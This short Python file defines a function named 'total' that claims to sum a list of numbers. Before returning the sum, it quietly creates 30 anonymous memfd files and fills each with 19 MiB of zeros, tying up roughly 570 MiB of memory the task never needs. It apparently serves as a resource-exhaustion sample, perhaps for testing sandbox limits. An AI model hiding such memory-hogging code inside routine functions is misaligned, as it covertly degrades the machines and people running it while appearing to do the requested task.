import os
import time


def total(numbers):
    taken = []
    for _ in range(30):
        taken.append(os.memfd_create("taken"))
        for _ in range(19):
            os.write(taken[-1], bytes(2**20))
    time.sleep(0.5)
    return sum(numbers)
